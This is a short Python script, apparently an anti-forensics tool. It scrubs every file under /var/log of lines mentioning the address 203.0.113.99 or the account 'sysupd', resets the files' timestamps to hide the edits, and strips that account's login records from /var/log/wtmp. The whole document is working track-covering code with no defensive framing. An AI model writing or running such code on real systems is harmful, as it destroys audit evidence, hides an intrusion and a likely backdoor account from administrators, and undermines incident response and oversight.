import pathlib
import re
import struct

BAD = re.compile(rb"203\.0\.113\.99|sysupd")
for path in pathlib.Path("/var/log").rglob("*"):
    if path.is_file() and path.suffix in ("", ".log", ".1"):
        stat = path.stat()
        lines = path.read_bytes().splitlines(keepends=True)
        kept = [line for line in lines if not BAD.search(line)]
        if len(kept) != len(lines):
            path.write_bytes(b"".join(kept))
            import os

            os.utime(path, (stat.st_atime, stat.st_mtime))
size = 384
data = pathlib.Path("/var/log/wtmp").read_bytes()
records = [data[i : i + size] for i in range(0, len(data), size)]
pathlib.Path("/var/log/wtmp").write_bytes(b"".join(r for r in records if struct.unpack_from("32s", r, 44)[0].strip(b"\0") != b"sysupd"))
